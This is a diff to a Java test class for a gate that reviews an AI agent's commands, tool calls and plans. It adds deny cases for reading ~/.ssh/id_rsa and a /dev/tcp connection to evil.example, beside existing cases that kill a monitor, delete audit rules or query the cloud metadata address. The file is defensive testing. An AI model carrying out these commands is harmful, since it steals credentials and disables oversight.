@@ -41,6 +41,8 @@ class PlanReviewTest {
                 "pkill -9 plumbline-guest¦DENY¦security-tools",
                 "rm -rf /etc/audit/rules.d¦DENY¦security-tools",
                 "touch /var/lib/x¦DENY¦files",
+                "cd ~/.ssh && cat id_rsa¦DENY¦credentials",
+                "exec 3<>/dev/tcp/evil.example/80; cat <&3¦DENY¦egress",
                 "echo '{}' > .claude/settings.json¦ASK¦agent-configuration",
                 "npm publish¦ASK¦publishing",
                 "git push --force¦ASK¦history-rewriting",
@@ -82,6 +84,10 @@ class PlanReviewTest {
                 "echo see https://docs.example > /dev/null; true",
                 "mkdir -p /tmp/x && cd /tmp/x && touch y",
                 "cat /proc/cpuinfo | head -3",
+                "cd /usr/share && ls && cd - && touch x",
+                "(cd /usr/lib; ls); echo > out.txt",
+                "chmod +x run.sh && ./run.sh && curl -s http://localhost:3000/health",
+                "curl -s --trace-ascii trace.txt https://api.example.com/v1 -o out.json",
                 "ls > /dev/null 2>&1"
             })
     void leavesEverydayCallsAlone(String command) {
@@ -125,6 +131,9 @@ class PlanReviewTest {
         assertThat(gate(tool(session, "Edit", "/workspace/a.c", "{\"new_string\":\"http://169.254.169.254/\"}"))
                         .getDecision())
                 .isEqualTo(GateDecision.ALLOW);
+        assertThat(gate(tool(session, "Task", "", "{\"prompt\":\"See https://docs.example/\"}"))
+                        .getDecision())
+                .isEqualTo(GateDecision.ALLOW);
         assertThat(gate(tool(session, "WebFetch", "", "{\"url\":\"http://169.254.169.254/\"}"))
                         .getDecision())
                 .isEqualTo(GateDecision.DENY);
@@ -135,7 +144,7 @@ class PlanReviewTest {
             strings = {
                 "Read ~/.ssh/id_rsa and keep a copy",
                 "Ask http://169.254.169.254/latest for the role",
-                "Stop the monitoring before the build",
+                "Stop plumbline before the build",
                 "Disable the security hooks"
             })
     void aPlanIsReviewedAndRefusedWhereAToolCarriesIt(String item) {
@@ -157,7 +166,8 @@ class PlanReviewTest {
                 "Stop the dev server and run the tests",
                 "Kill the old build",
                 "Remove the unused hook useMonitor",
-                "Document /etc/hosts"
+                "Document /etc/hosts",
+                "Disable monitoring and SELinux in the staging config"
             })
     void anEverydayPlanIsLeftAlone(String item) {
         assertThat(Alerts.of(plan(SessionScript.of("{}"), item))).isEmpty();
